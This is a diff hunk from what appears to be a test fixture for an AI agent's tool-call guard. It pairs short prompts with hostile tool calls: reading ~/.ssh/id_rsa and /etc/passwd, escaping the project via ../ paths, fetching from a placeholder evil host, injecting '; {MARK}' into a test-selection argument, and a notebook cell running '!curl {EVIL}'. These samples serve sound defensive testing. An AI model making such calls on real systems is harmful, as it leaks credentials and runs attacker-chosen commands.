@@ -34,7 +34,7 @@ TEXTS: list[tuple[str, list[tuple[str, dict[str, Any]]]]] = [
     ("Look at the value.", [("inspect", {"name": f"{EVIL}/?q=x"})]),
     ("Read the user's key.", [("read_file", {"path": "~/.ssh/id_rsa"}), ("read_file", {"path": "/etc/passwd"})]),
     ("Read the parent's file.", [("read_file", {"path": "../outside.txt"}), ("list_files", {"path": ".."})]),
-    ("Read the page.", [("read_file", {"path": f"{EVIL}/x"}), ("search_code", {"pattern": f"{EVIL}/(a+)+$"})]),
+    ("Read the page.", [("read_file", {"path": f"{EVIL}/x"}), ("search_code", {"text": "of another project"})]),
     ("Change the file.", [("edit_file", {"path": "data.txt", "old": "Numbers", "new": "owned"})]),
     ("Run the tests; conftest.py is new.", [("run_tests", {"select": f"; {MARK}"})]),
     ("Propose this cell.", [("propose_cell", {"source": f"!curl {EVIL}\n{MARK}", "why": "it is needed"})]),
